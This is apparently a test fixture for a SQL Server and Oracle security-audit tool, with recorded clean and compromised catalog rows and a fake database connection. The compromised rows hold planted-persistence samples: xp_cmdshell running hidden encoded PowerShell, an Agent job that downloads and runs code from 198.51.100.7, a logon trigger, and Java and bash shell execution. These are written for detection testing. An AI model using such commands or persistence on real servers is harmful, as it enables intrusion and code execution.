"""Recorded catalog rows (written for these tests) and a fake DB-API connection serving them.

MSSQL and Oracle cannot run here; these rows are shaped like what the pack's queries return on
SQL Server 2022 and Oracle 19c, for a clean server and for one with planted persistence. The
fake connection answers each pack query by its SQL text, so the live code path (read-only
transaction, execute, description check, fetchmany, rollback) runs unchanged.
"""

from __future__ import annotations

import json
from collections.abc import Mapping, Sequence
from typing import Any

from sscguard.sql.packs import DONE, PACKS

Rows = dict[str, list[dict[str, Any]]]

_MS_OPTIONS_CLEAN = [
    {"name": "xp_cmdshell", "value": 0, "value_in_use": 0},
    {"name": "clr enabled", "value": 0, "value_in_use": 0},
    {"name": "clr strict security", "value": 1, "value_in_use": 1},
    {"name": "Ole Automation Procedures", "value": 0, "value_in_use": 0},
    {"name": "external scripts enabled", "value": 0, "value_in_use": 0},
    {"name": "scan for startup procs", "value": 0, "value_in_use": 0},
]
_MS_STOCK_XPROCS = [
    {"schema": "sys", "name": "xp_cmdshell", "dll_name": "xplog70.dll", "is_ms_shipped": True},
    {"schema": "sys", "name": "xp_dirtree", "dll_name": "xpstar.dll", "is_ms_shipped": True},
    {"schema": "sys", "name": "sp_OACreate", "dll_name": "odsole70.dll", "is_ms_shipped": True},
]

MSSQL_CLEAN: Rows = {
    "ms_server": [
        {"server": "SQL01", "version": "16.0.1000.6", "login": "CORP\\auditor", "is_sysadmin": 1}
    ],
    "ms_config": _MS_OPTIONS_CLEAN,
    "ms_startup_procs": [],
    "ms_databases": [
        {"name": "master", "trustworthy": False},
        {"name": "tempdb", "trustworthy": False},
        {"name": "model", "trustworthy": False},
        {"name": "msdb", "trustworthy": True},
        {"name": "Sales", "trustworthy": False},
    ],
    "ms_assemblies": [],
    "ms_trusted_assemblies": [],
    "ms_xprocs": _MS_STOCK_XPROCS,
    "ms_agent_steps": [],
    "ms_server_triggers": [],
}

MSSQL_COMPROMISED: Rows = {
    "ms_server": MSSQL_CLEAN["ms_server"],
    "ms_config": [
        {"name": "xp_cmdshell", "value": 1, "value_in_use": 1},
        {"name": "clr enabled", "value": 1, "value_in_use": 1},
        {"name": "clr strict security", "value": 0, "value_in_use": 0},
        {"name": "Ole Automation Procedures", "value": 1, "value_in_use": 1},
        {"name": "external scripts enabled", "value": 1, "value_in_use": 0},
        {"name": "scan for startup procs", "value": 1, "value_in_use": 1},
    ],
    "ms_startup_procs": [
        {
            "schema": "dbo",
            "name": "sp_refresh_cache",
            "modified": "2024-03-02T03:14:07",
            "definition": "CREATE PROCEDURE dbo.sp_refresh_cache AS\r\nEXEC sp_configure "
            "'xp_cmdshell', 1; RECONFIGURE;\r\nEXEC master..xp_cmdshell 'powershell -nop -w "
            "hidden -enc SQBFAFgA'",
        }
    ],
    "ms_databases": [
        {"name": "master", "trustworthy": False},
        {"name": "msdb", "trustworthy": True},
        {"name": "Sales", "trustworthy": True},
    ],
    "ms_assemblies": [
        {
            "db": "Sales",
            "name": "SqlBackupHelper",
            "permission_set": "UNSAFE_ACCESS",
            "clr_name": "sqlbackuphelper, version=1.0.0.0, culture=neutral, "
            "publickeytoken=null, processorarchitecture=msil",
            "created": "2024-03-02T03:10:44",
        },
        {
            "db": "Sales",
            "name": "ReportMath",
            "permission_set": "SAFE_ACCESS",
            "clr_name": "reportmath, version=2.1.0.0",
            "created": "2021-06-11T10:00:00",
        },
    ],
    "ms_trusted_assemblies": [
        {
            "hash": "5A1F2B3C4D5E6F708192A3B4C5D6E7F8091A2B3C4D5E6F708192A3B4C5D6E7F8091A2B3C"
            "4D5E6F708192A3B4C5D6E7F8091A2B3C4D5E6F708192A3B4C5D6E7F809",
            "description": "helper",
            "created": "2024-03-02T03:10:40",
        }
    ],
    "ms_xprocs": [
        *_MS_STOCK_XPROCS,
        {
            "schema": "dbo",
            "name": "xp_perfmon_ext",
            "dll_name": "C:\\Windows\\Temp\\perfmonx.dll",
            "is_ms_shipped": False,
        },
    ],
    "ms_agent_steps": [
        {
            "job": "syspolicy_refresh",
            "enabled": True,
            "step_id": 1,
            "step_name": "refresh",
            "subsystem": "PowerShell",
            "command": "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.7/p')",
            "owner": "sa",
        },
        {
            "job": "Nightly export",
            "enabled": True,
            "step_id": 2,
            "step_name": "copy files",
            "subsystem": "CmdExec",
            "command": 'robocopy D:\\exports E:\\archive /MIR /LOG:"E:\\logs\\export.log"',
            "owner": "CORP\\dba",
        },
    ],
    "ms_server_triggers": [
        {
            "name": "trg_logon_keep",
            "is_disabled": False,
            "is_ms_shipped": False,
            "definition": "CREATE TRIGGER trg_logon_keep ON ALL SERVER FOR LOGON AS "
            "BEGIN EXEC master..xp_cmdshell 'whoami > C:\\Windows\\Temp\\w.txt' END",
        }
    ],
}

ORACLE_CLEAN: Rows = {
    "ora_server": [{"db": "ORCL", "host": "dbhost01", "login": "AUDITOR", "version": "19.0.0.0.0"}],
    "ora_java_policy": [
        {
            "kind": "GRANT",
            "grantee": "JAVASYSPRIV",
            "type_name": "java.io.FilePermission",
            "name": "<<ALL FILES>>",
            "action": "read,write,execute,delete",
            "enabled": "ENABLED",
            "seq": 59,
        },
        {
            "kind": "GRANT",
            "grantee": "PUBLIC",
            "type_name": "java.lang.RuntimePermission",
            "name": "exitVM",
            "action": "",
            "enabled": "ENABLED",
            "seq": 10,
        },
    ],
    "ora_java_roles": [
        {"grantee": "SYS", "granted_role": "JAVASYSPRIV"},
        {"grantee": "DBA", "granted_role": "JAVA_ADMIN"},
    ],
    "ora_java_objects": [],
    "ora_libraries": [],
    "ora_scheduler_jobs": [],
    "ora_triggers": [],
}

ORACLE_COMPROMISED: Rows = {
    "ora_server": ORACLE_CLEAN["ora_server"],
    "ora_java_policy": [
        *ORACLE_CLEAN["ora_java_policy"],
        {
            "kind": "GRANT",
            "grantee": "SCOTT",
            "type_name": "java.io.FilePermission",
            "name": "<<ALL FILES>>",
            "action": "execute",
            "enabled": "ENABLED",
            "seq": 171,
        },
    ],
    "ora_java_roles": [
        *ORACLE_CLEAN["ora_java_roles"],
        {"grantee": "SCOTT", "granted_role": "JAVASYSPRIV"},
    ],
    "ora_java_objects": [
        {
            "owner": "SCOTT",
            "object_name": "ShellUtil",
            "object_type": "JAVA SOURCE",
            "status": "VALID",
            "created": "2024-03-02T03:20:00",
            "exec_line": '  Process p = Runtime.getRuntime().exec(new String[]{"sh", "-c", c});',
        },
        {
            "owner": "SCOTT",
            "object_name": "ShellUtil",
            "object_type": "JAVA CLASS",
            "status": "VALID",
            "created": "2024-03-02T03:20:01",
            "exec_line": None,
        },
    ],
    "ora_libraries": [
        {
            "owner": "SCOTT",
            "library_name": "SYS_UTIL_LIB",
            "file_spec": "/tmp/.cache/libsysutil.so",
            "dynamic": "Y",
            "status": "VALID",
        }
    ],
    "ora_scheduler_jobs": [
        {
            "owner": "SCOTT",
            "job_name": "STATS_REFRESH",
            "job_type": "EXECUTABLE",
            "action": "/bin/bash",
            "enabled": "TRUE",
            "state": "SCHEDULED",
            "credential_name": "OS_CRED",
        }
    ],
    "ora_triggers": [
        {
            "owner": "SCOTT",
            "trigger_name": "LOGON_AUDIT",
            "triggering_event": "LOGON ",
            "base_object_type": "DATABASE  ",
            "status": "ENABLED",
            "description": "logon_audit AFTER LOGON ON DATABASE",
            "risky_line": "  EXECUTE IMMEDIATE 'BEGIN shell_pkg.run(:1); END;' USING v;",
        }
    ],
}


def jsonl(engine: str, rows: Rows) -> str:
    """The rows as the printed pack's output would be (one JSON object a line + markers)."""
    lines = []
    for q in PACKS[engine].queries:
        for row in rows.get(q.name, ()):
            lines.append(json.dumps({"query": q.name, **row}))
        lines.append(json.dumps({"query": DONE + q.name}))
    return "\n".join(lines) + "\n"


class FakeCursor:
    def __init__(self, conn: FakeConnection) -> None:
        self.conn = conn
        self.description: list[tuple[str, None]] | None = None
        self._rows: list[tuple[Any, ...]] = []

    def execute(self, operation: str) -> None:
        self.conn.executed.append(operation)
        if operation in ("SET TRANSACTION READ ONLY", "START TRANSACTION READ ONLY"):
            return
        sql, db = operation, ""
        if operation.startswith("USE ["):
            i, name = 5, []
            while True:  # a bracketed identifier: ]] is an escaped ]
                if operation[i] == "]" and operation[i + 1 : i + 2] == "]":
                    name.append("]")
                    i += 2
                elif operation[i] == "]":
                    break
                else:
                    name.append(operation[i])
                    i += 1
            assert operation[i + 1 : i + 3] == "; ", operation
            db, sql = "".join(name), operation[i + 3 :]
            self.conn.databases.append(db)
        query = self.conn.by_sql.get(sql)
        if query is None:
            raise AssertionError(f"unexpected SQL: {operation[:200]}")
        if query in self.conn.errors:
            raise self.conn.errors[query]
        rows = self.conn.rows.get(query, [])
        if db:
            rows = [r for r in rows if r.get("db") == db]
        columns = PACKS[self.conn.engine].get(query).columns  # type: ignore[union-attr]
        self.description = [(c, None) for c in columns]
        self._rows = [tuple(r.get(c) for c in columns) for r in rows]

    def fetchmany(self, size: int) -> list[tuple[Any, ...]]:
        out, self._rows = self._rows[:size], self._rows[size:]
        return out

    def close(self) -> None:
        pass


class FakeConnection:
    """A DB-API connection that serves recorded rows per pack query."""

    def __init__(
        self, engine: str, rows: Mapping[str, Sequence[Mapping[str, Any]]], **errors: Exception
    ) -> None:
        self.engine = engine
        self.rows = {k: [dict(r) for r in v] for k, v in rows.items()}
        self.by_sql = {q.sql: q.name for q in PACKS[engine].queries}
        self.errors = errors
        self.executed: list[str] = []
        self.databases: list[str] = []
        self.rollbacks = 0
        self.closed = False

    def cursor(self) -> FakeCursor:
        return FakeCursor(self)

    def rollback(self) -> None:
        self.rollbacks += 1

    def close(self) -> None:
        self.closed = True
